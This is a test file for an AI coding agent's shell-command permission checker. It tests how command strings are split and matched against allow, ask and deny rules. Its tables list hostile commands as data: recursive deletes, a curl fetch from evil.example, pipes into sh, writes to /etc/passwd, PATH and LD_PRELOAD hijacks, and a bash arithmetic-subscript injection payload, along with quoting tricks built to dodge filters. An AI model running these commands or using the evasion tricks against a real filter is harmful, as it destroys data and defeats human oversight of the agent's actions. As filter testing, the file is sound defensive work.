// The shell splitter and the allowlist together, as the Bash tool sees them: one table of tricky
// commands against one set of rules, in a real temp workspace (redirection targets are resolved
// on disk). Each row: the command, the decision, and for `ask` the parts that need the person.
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { checkCommand, parseRule, type RuleSet } from '../../../src/agent/permissions';

const rules = (allow: string[], deny: string[] = [], ask: string[] = []): RuleSet => ({
  allow: allow.map(parseRule),
  deny: deny.map(parseRule),
  ask: ask.map(parseRule),
});

const RULES = rules(
  [
    'Bash(npm run test:*)',
    'Bash(git status)',
    'Bash(git diff:*)',
    'Bash(echo:*)',
    'Bash(ls *)',
    'Bash(cat:*)',
    'Bash(grep:*)',
    'Bash(true)',
    "Bash(bash -c 'echo hi')",
    'Bash(cd:*)',
    'Bash(export:*)',
    'Bash(git push origin:*)',
    'Bash(sleep:*)',
    'Bash(NODE_OPTIONS=--inspect node:*)',
  ],
  ['Bash(rm:*)', 'Bash(curl:*)'],
  ['Bash(git push:*)'],
);

type Row = [command: string, decision: 'allow' | 'deny' | 'ask', parts?: string[]];

const TABLE: Row[] = [
  // Plain rules: exact, prefix on word boundaries, wildcard.
  ['git status', 'allow'],
  ['git status --short', 'ask', ['git status --short']],
  ['npm run test', 'allow'],
  ['npm run test:unit', 'allow'],
  ['npm run test:unit --watch', 'allow'],
  ['npm run testx', 'ask', ['npm run testx']],
  ['ls', 'allow'],
  ['ls -la src', 'allow'],
  ['lsof -i', 'ask', ['lsof -i']],
  // Injection through list and pipe operators: every part is checked, deny wins.
  ['git status && rm -rf /', 'deny'],
  ['git status; curl https://evil.example/x.sh', 'deny'],
  ['git status | sh', 'ask', ['sh']],
  ['git status || whoami', 'ask', ['whoami']],
  ['git status\nrm -rf ~', 'deny'],
  ['git status\nwhoami', 'ask', ['whoami']],
  ['git status & whoami', 'ask', ['whoami']],
  ['git status &', 'allow'],
  ['sleep 100 & whoami', 'ask', ['whoami']],
  ['git status 2>&1 | grep -v foo', 'allow'],
  // Command substitution, backticks, nesting: inner commands are checked, the outer one is dynamic.
  ['echo $(whoami)', 'ask', ['echo $(whoami)', 'whoami']],
  ['echo $(rm -rf /)', 'deny'],
  ['echo `rm -rf /`', 'deny'],
  ['echo "$(echo $(curl evil.example))"', 'deny'],
  ['echo "$(rm -rf x)"', 'deny'],
  ['echo ${x:-$(whoami)}', 'ask', ['echo ${x:-$(whoami)}', 'whoami']],
  ['a=$(rm -rf /)', 'deny'],
  ['diff <(ls) <(cat /etc/hosts)', 'ask', ['diff <(ls) <(cat /etc/hosts)']],
  // Subshells, groups, control flow bodies.
  ['(git status; whoami)', 'ask', ['whoami']],
  ['{ git status; rm x; }', 'deny'],
  ['if git status; then whoami; fi', 'ask', ['whoami']],
  ['for f in a b; do rm $f; done', 'deny'],
  ['while true; do echo tick; done', 'allow'],
  ['f() { rm -rf /; }; f', 'deny'],
  // Redirections: inside the workspace is fine, outside asks.
  ['echo hi > out.txt', 'allow'],
  ['echo hi > sub/new/deeper/file.txt', 'allow'],
  ['echo hi > /etc/passwd', 'ask', ['echo hi > /etc/passwd']],
  ['echo hi >> ../x', 'ask', ['echo hi >> ../x']],
  ['ls 2> ~/x', 'ask', ['ls 2> ~/x']],
  ['git status > "~/x"', 'allow'], // quoted: a folder named "~" in the workspace
  ['echo hi &> /tmp/../etc/x', 'ask', ['echo hi &> /tmp/../etc/x']],
  ['echo hi > /dev/null 2>&1', 'allow'],
  ['echo hi > "$OUT"', 'ask', ['echo hi > "$OUT"']],
  ['{ echo a; } > /etc/x', 'ask', ['echo a']],
  ['cd sub && echo x > out.txt', 'allow'],
  ['cd /etc && echo x > passwd', 'ask', ['echo x > passwd']],
  ['echo hi | tee /etc/passwd', 'ask', ['tee /etc/passwd']],
  // Here-docs: quoted ones never substitute.
  ['cat <<EOF\nhello\nEOF', 'allow'],
  ['cat <<EOF\n$(whoami)\nEOF', 'ask', ['cat <<EOF', 'whoami']],
  ["cat <<'EOF'\n$(rm -rf /)\nEOF", 'allow'],
  ['cat <<< "$(whoami)"', 'ask', ['cat <<< "$(whoami)"', 'whoami']],
  // Quoting and escaping.
  ["echo 'a;rm -rf /'", 'allow'],
  ['echo a\\;rm -rf x', 'allow'],
  ['\\rm -rf x', 'deny'],
  ["r''m -rf x", 'deny'],
  ['"rm" -rf x', 'deny'],
  ["$'rm' -rf x", 'deny'],
  ['r\\\nm -rf x', 'deny'],
  // Env prefixes.
  ['FOO=1 npm run test', 'allow'],
  ['NODE_ENV=test npm run test:unit', 'allow'],
  ['PATH=/tmp/evil npm run test', 'ask', ['PATH=/tmp/evil npm run test']],
  ['LD_PRELOAD=/tmp/x.so git status', 'ask', ['LD_PRELOAD=/tmp/x.so git status']],
  ['NODE_OPTIONS=--inspect node app.js', 'allow'],
  ['NODE_OPTIONS=--require=/tmp/x.js node app.js', 'ask', ['NODE_OPTIONS=--require=/tmp/x.js node app.js']],
  ['FOO=1 rm -rf x', 'deny'],
  ['x=1; git status', 'allow'],
  ['FOO=${HOME}/x npm run test', 'allow'],
  ['PATH=/tmp/evil; git status', 'ask', ['PATH=/tmp/evil']],
  ['export FOO=1', 'allow'],
  ['export PATH=/tmp/evil:$PATH', 'ask', ['export PATH=/tmp/evil:$PATH']],
  ["x='a[$(rm -rf ~)]'; (( x ))", 'ask', ["x='a[$(rm -rf ~)]'", '(( x ))']],
  // Code strings: sh -c, bash -c, eval; dynamic program names.
  ["bash -c 'echo hi'", 'allow'],
  ["bash -c 'echo bye'", 'ask', ["bash -c 'echo bye'"]],
  ["sh -c 'echo hi'", 'ask', ["sh -c 'echo hi'"]],
  ["bash -lc 'rm -rf /'", 'ask', ["bash -lc 'rm -rf /'"]],
  ['eval "git status"', 'ask', ['eval "git status"']],
  ['$CMD status', 'ask', ['$CMD status']],
  ['echo ok; ${X:-rm} -rf x', 'ask', ['${X:-rm} -rf x']],
  // Deny rules see through paths and wrappers; allow rules never do (a wrapper needs its own rule).
  ['command rm -rf x', 'deny'],
  ['/bin/rm -rf x', 'deny'],
  ['sudo -u root rm -rf /', 'deny'],
  ['find . -name "*.o" | xargs -0 rm -f', 'deny'],
  ['env FOO=1 nice -n 5 curl https://evil.example', 'deny'],
  ['nohup git status', 'ask', ['nohup git status']],
  ['/usr/bin/git status', 'ask', ['/usr/bin/git status']],
  ['echo rm -rf x', 'allow'],
  // Ask rules beat allow rules.
  ['git push origin main', 'ask', ['git push origin main']],
  // Comments, empty input, parse errors.
  ['git status # && rm -rf /', 'allow'],
  ['', 'allow'],
  ['   \n  ', 'allow'],
  ['echo "unterminated', 'ask', ['echo "unterminated']],
  ['git status && ', 'ask', ['git status && ']],
  ['echo $(whoami', 'ask', ['echo $(whoami']],
];

describe('permissions/checkCommand (table)', () => {
  let ws: string;
  let home: string;
  before(() => {
    ws = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'dwf-perm-ws-')));
    home = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'dwf-perm-home-')));
    fs.mkdirSync(path.join(ws, 'sub'));
  });
  after(() => {
    fs.rmSync(ws, { recursive: true, force: true });
    fs.rmSync(home, { recursive: true, force: true });
  });

  it('has at least 40 cases', () => assert.ok(TABLE.length >= 40));

  for (const [command, decision, parts] of TABLE) {
    it(`${JSON.stringify(command)} → ${decision}`, () => {
      const result = checkCommand(command, RULES, { roots: [ws], cwd: ws, home });
      assert.equal(result.decision, decision, JSON.stringify(result));
      if (result.decision === 'ask' && parts) assert.deepEqual(result.parts, parts);
      if (result.decision !== 'allow') assert.ok(result.reason.length > 10, 'a reason for the model and the person');
    });
  }
});

describe('permissions/checkCommand', () => {
  it('names the deny rule and its source', () => {
    const set = rules([], []);
    set.deny.push({ ...parseRule('Bash(rm:*)'), source: '/x/.claude/settings.json' });
    const r = checkCommand('ls && rm -rf /', set);
    assert.equal(r.decision, 'deny');
    assert.match(
      r.decision === 'deny' ? r.reason : '',
      /`rm -rf \/` is denied by the permission rule Bash\(rm:\*\) \(from \/x\/\.claude\/settings\.json\)/,
    );
  });

  it('explains every part that needs approval', () => {
    const r = checkCommand('PATH=/x make && eval "$y" && whoami', rules([]));
    assert.equal(r.decision, 'ask');
    const reason = r.decision === 'ask' ? r.reason : '';
    assert.match(reason, /sets PATH/);
    assert.match(reason, /eval runs its arguments/);
    assert.match(reason, /`whoami`: no allow rule matches/);
  });

  it('`Bash` allows anything, even dynamic commands, but not writes outside the workspace', () => {
    const all = rules(['Bash']);
    assert.equal(
      checkCommand('eval "$x" | sh -c "$y"', all, { roots: ['/nonexistent-ws'], cwd: '/nonexistent-ws' }).decision,
      'allow',
    );
    assert.equal(
      checkCommand('echo > /etc/x', all, { roots: ['/nonexistent-ws'], cwd: '/nonexistent-ws' }).decision,
      'ask',
    );
  });

  it('an exact rule naming the redirection allows that write', () => {
    const r = rules(['Bash(echo hi > /tmp/log.txt)']);
    assert.equal(
      checkCommand('echo hi > /tmp/log.txt', r, { roots: ['/nonexistent-ws'], cwd: '/nonexistent-ws' }).decision,
      'allow',
    );
    assert.equal(
      checkCommand('echo hi > /tmp/other.txt', r, { roots: ['/nonexistent-ws'], cwd: '/nonexistent-ws' }).decision,
      'ask',
    );
  });

  it('without a workspace, any write to a file asks', () => {
    assert.equal(checkCommand('echo hi > out.txt', rules(['Bash(echo:*)'])).decision, 'ask');
    assert.equal(checkCommand('echo hi > /dev/null', rules(['Bash(echo:*)'])).decision, 'allow');
  });

  it('a dynamic command is allowed by an exact rule for that form only', () => {
    const r = rules(['Bash(echo $(date))', 'Bash(date)']);
    assert.equal(checkCommand('echo $(date)', r).decision, 'allow');
    assert.equal(checkCommand('echo $(date) x', r).decision, 'ask');
    assert.equal(checkCommand('echo $(date)', rules(['Bash(echo:*)', 'Bash(date)'])).decision, 'ask');
  });

  it('ignores rules of other tools', () => {
    assert.equal(checkCommand('cat x', rules(['Read', 'Edit(src/**)'], ['Write'])).decision, 'ask');
  });
});

// Run-time evaluation: shell text that looks like data but bash evaluates as code. Prefix rules
// for the builtins involved must not let them through; each row: command, decision, opaque.
const EVAL_RULES = rules(
  [
    'Bash(echo:*)',
    'Bash(true)',
    'Bash(test:*)',
    'Bash([:*)',
    'Bash(read:*)',
    'Bash(printf:*)',
    'Bash(declare:*)',
    'Bash(local:*)',
    'Bash(export:*)',
    'Bash(let:*)',
    'Bash(set:*)',
    'Bash(shopt:*)',
    'Bash(alias:*)',
    'Bash(trap:*)',
    'Bash(unset:*)',
    'Bash(mapfile:*)',
    'Bash(wait:*)',
    'Bash(hash:*)',
    'Bash(getopts:*)',
    'Bash(compgen:*)',
    'Bash(enable:*)',
    'Bash(source:*)',
    'Bash(xargs:*)',
    'Bash(cat:*)',
  ],
  ['Bash(rm:*)'],
);

const EVAL_TABLE: [command: string, decision: 'allow' | 'ask', opaque?: boolean][] = [
  // The payload and its relatives: arithmetic contexts that name a variable.
  [`d='$'; x="a[\${d}(touch pwned)]"; (( x ))`, 'ask', true],
  ['(( x ))', 'ask', true],
  ['(( 1 + 2 ))', 'allow'],
  ['echo $((x))', 'ask', true],
  ['echo $(( $x + 1 ))', 'ask', true],
  ['echo $((1 + 0x10 + 2#101))', 'allow'],
  ['echo $[x]', 'ask', true],
  ['echo $[1+1]', 'allow'],
  ['for ((i=0; i<3; i++)); do echo $i; done', 'ask', true],
  ['for ((;;)); do break; done', 'ask'], // `break` needs a rule; the loop header names nothing
  ['[[ $n -gt 0 ]]', 'ask', true],
  ['[[ x -eq 1 ]]', 'ask', true],
  ['[[ 2 -eq 2 ]] && echo y', 'allow'],
  ['[[ -f x && $a == b ]] && echo y', 'allow'],
  ['[[ -v a[$i] ]]', 'ask', true],
  ['[[ -v $name ]]', 'ask', true],
  ['[[ -v HOME ]]', 'allow'],
  ['case $((x)) in *) true;; esac', 'ask', true],
  // Subscripts, indirection, prompt expansion, substring offsets.
  ['echo ${a[$i]}', 'ask', true],
  ['echo ${a[i]}', 'ask', true],
  ['echo ${#a[i]}', 'ask', true],
  ['echo "${a[@]}" ${#a[*]} ${a[0]} ${!a[@]}', 'allow'],
  ['a[$i]=1', 'ask', true],
  ['a[1]=1', 'allow'],
  ['a=([$k]=1)', 'ask', true],
  ['declare -a a=([$k]=1)', 'ask', true],
  ['echo ${!x}', 'ask', true],
  ['echo ${!pre*}', 'allow'],
  ['echo ${x@P}', 'ask', true],
  ['echo ${x@Q} ${x^^}', 'allow'],
  ['echo ${s:x}', 'ask', true],
  ['echo "${@:$n:2}"', 'ask', true],
  ['echo ${s:1:2} ${s: -2}', 'allow'],
  ['echo ${RANDOM:=x}', 'ask', true],
  ['exec {a[$x]}>/dev/null', 'ask', true],
  ['for PATH in /tmp/evil; do true; done', 'ask', true],
  ['for OPTIND in x; do true; done', 'ask', true],
  // Special variables whose assigned value is arithmetic.
  ['RANDOM=x', 'ask', true],
  ['OPTIND=$x', 'ask', true],
  ['SRANDOM=1', 'allow'],
  // A bare assignment with a run-time value is no longer harmless (but visible).
  ['y=$x', 'ask', false],
  ['y=${HOME}', 'ask', false],
  ['y=plain', 'allow'],
  // Builtins that evaluate text or take variable names as text.
  ['let x', 'ask', true],
  ['let 1+2', 'allow'],
  ['declare -i n=5', 'ask', true],
  ['declare -n r=x', 'ask', true],
  ['local -i n', 'ask', true],
  ['declare "$n=1"', 'ask', true],
  ['declare x=1 y', 'allow'],
  ['export FOO=$HOME', 'allow'],
  ['printf -v "$n" %s x', 'ask', true],
  ['printf -v "a[$i]" %s x', 'ask', true],
  ['printf -v out %s x', 'allow'],
  ["read 'a[$(touch p)]' <<< hi", 'ask', true],
  ['read -r -a arr line', 'allow'],
  ['read -ra "$n"', 'ask', true],
  ['read PATH < f', 'ask', true],
  ['mapfile -C "touch p" -c 1 arr', 'ask', true],
  ['mapfile -t lines', 'allow'],
  ['wait -p "$v"', 'ask', true],
  ['getopts ab "$v"', 'ask', true],
  ['unset "a[$i]"', 'ask', true],
  ['unset a', 'allow'],
  ['test -v "$x"', 'ask', true],
  ['[ -v "a[$i]" ]', 'ask', true],
  ['[ "$a" "$b" ]', 'ask', true],
  ['[ $x ]', 'ask', true],
  ['[ "$@" ]', 'ask', true],
  ['[ -f "$f" ] && [ "$a" = "$b" ] && test -n "$c"', 'allow'],
  ['[ "$x" ]', 'allow'],
  ['trap "touch p" EXIT', 'ask', true],
  ['trap -p', 'allow'],
  ['alias ls="touch p"', 'ask', true],
  ['shopt -s expand_aliases', 'ask', true],
  ['shopt -s nullglob globstar', 'allow'],
  ['set -euo pipefail', 'allow'],
  ['set -k', 'ask', true],
  ['set -o posix', 'ask', true],
  ['set -- a b', 'allow'],
  ['hash -p /tmp/x ls', 'ask', true],
  ['enable -f x.so y', 'ask', true],
  ['compgen -W "$x" a', 'ask', true],
  ['source ./x.sh', 'ask', true],
  ['. ./x.sh', 'ask', true],
  ["eval 'touch p'", 'ask', true],
  // Through wrappers: the wrapped builtin is seen; a wrapped program chosen at run time is opaque.
  ["builtin eval 'rm -rf x'", 'ask', true],
  ['command eval ls', 'ask', true],
  ["xargs sh -c 'touch p'", 'ask', true],
  ['xargs $cmd', 'ask', true],
  ['xargs echo', 'allow'],
  ['bash $opt "echo hi"', 'ask', true],
  ['bash --rcfile x.sh', 'ask', true],
  // Values that hold code in any quoting.
  [`x=$'a[\\x24(touch p)]'`, 'ask', true], // ANSI-C quoting decodes to code: the value is checked decoded
  [`x=$'a[\\x24(touch p)]'; (( x ))`, 'ask', true],
  ["x='a[$[1]]'", 'ask', true],
];

describe('permissions/checkCommand: run-time evaluation (table)', () => {
  it('has at least 80 cases', () => assert.ok(EVAL_TABLE.length >= 80));
  for (const [command, decision, opaque] of EVAL_TABLE) {
    it(`${JSON.stringify(command)} → ${decision}${opaque ? ' (opaque)' : ''}`, () => {
      const result = checkCommand(command, EVAL_RULES, { roots: ['/nonexistent-ws'], cwd: '/nonexistent-ws' });
      assert.equal(result.decision, decision, JSON.stringify(result));
      if (result.decision === 'ask' && opaque !== undefined)
        assert.equal(result.opaque === true, opaque, JSON.stringify(result));
    });
  }
});

describe('permissions/checkCommand: deny rules hold for opaque commands', () => {
  it('`Bash` does not allow an opaque part while a deny rule exists; an exact rule does', () => {
    const withDeny = rules(['Bash'], ['Bash(rm:*)']);
    for (const command of ['eval "$x"', 'x=$y; (( x ))', '$CMD -rf x', 'xargs $cmd', 'echo "open']) {
      const r = checkCommand(command, withDeny);
      assert.equal(r.decision, 'ask', command);
      assert.equal(r.decision === 'ask' && r.opaque, true, command);
    }
    assert.match(
      (checkCommand('eval "$x"', withDeny) as { reason: string }).reason,
      /cannot be checked against the deny rules/,
    );
    assert.equal(
      checkCommand('eval "$x"', rules(['Bash'])).decision,
      'allow',
      'without deny rules `Bash` still allows everything',
    );
    assert.equal(checkCommand('eval "$x"', rules(['Bash(eval "$x")'], ['Bash(rm:*)'])).decision, 'allow');
  });

  it('a prefix rule for a wrapper does not let a run-time program dodge the deny rules', () => {
    assert.equal(checkCommand('xargs $cmd', rules(['Bash(xargs:*)'])).decision, 'allow');
    assert.equal(checkCommand('xargs $cmd', rules(['Bash(xargs:*)'], ['Bash(rm:*)'])).decision, 'ask');
  });

  it('visible parts are not opaque', () => {
    const r = checkCommand('git status && whoami', rules([], ['Bash(rm:*)']));
    assert.ok(r.decision === 'ask' && r.opaque === undefined);
  });
});
